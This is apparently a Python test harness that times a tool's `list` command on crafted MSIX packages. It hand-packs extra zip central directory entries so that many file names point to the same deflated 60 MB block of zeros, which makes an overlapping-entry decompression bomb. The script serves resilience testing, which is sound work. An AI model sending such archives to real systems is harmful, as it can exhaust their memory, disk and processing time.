#!/usr/bin/python3
"""Times `pictrove-cli list` on app packages crafted to inflate much: one
variant's deflated bytes named again by many central directory entries
(zipfile cannot write such entries, so the directory is packed here).

    crafted_packages.py PICTROVE-CLI [COPIES...]
"""
import io
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib

MANIFEST = ('<Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10">'
            '<Properties><Logo>Logo.png</Logo></Properties></Package>')
PNG_HEAD = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 16, 16, 8, 6, 0, 0, 0))
PNG_HEAD += struct.pack(">I", zlib.crc32(PNG_HEAD[12:]))


def shared(copies, head, size=60 << 20):
    """A package whose variant Logo.scale-100.png (`head`, then zeros) is
    named again `copies` times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("AppxManifest.xml", MANIFEST)
        archive.writestr("Logo.scale-100.png", head + bytes(size))
    data = out.getvalue()
    end = len(data) - 22
    entries, cd_size, cd_offset = struct.unpack_from("<HII", data, end + 10)
    at = cd_offset
    while data[at + 46:at + 46 + 18] != b"Logo.scale-100.png":
        at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
    entry = bytearray(data[at:at + 46 + 18])
    struct.pack_into("<HH", entry, 30, 0, 0)
    extra = b""
    for i in range(copies):
        entry[46 + 11:46 + 14] = f"{101 + i % 899:03d}".encode()
        name = bytes(entry)
        if i >= 899:  # more names: a folder of qualifiers before it
            name = name[:46] + f"q-{i}/".encode() + name[46:]
            name = name[:28] + struct.pack("<H", len(name) - 46) + name[30:]
        extra += name
    eocd = bytearray(data[end:])
    struct.pack_into("<HHI", eocd, 8, entries + copies, entries + copies, cd_size + len(extra))
    return data[:cd_offset + cd_size] + extra + bytes(eocd)


def main():
    cli = sys.argv[1]
    for copies, (kind, head) in [(int(c), k) for c in sys.argv[2:] or [10, 40]
                                 for k in (("zeros", b""), ("PNG header", PNG_HEAD))]:
        with tempfile.NamedTemporaryFile(suffix=".msix") as f:
            f.write(shared(copies, head))
            f.flush()
            start = time.monotonic()
            result = subprocess.run([cli, "list", f.name], capture_output=True, text=True)
            took = time.monotonic() - start
            size = f.tell()
        said = (result.stderr.strip() or result.stdout.strip()).splitlines()[-1:]
        print(f"{copies + 1} names of {kind}, {size} bytes: exit {result.returncode} in {took:.2f} s: {said}")


if __name__ == "__main__":
    main()
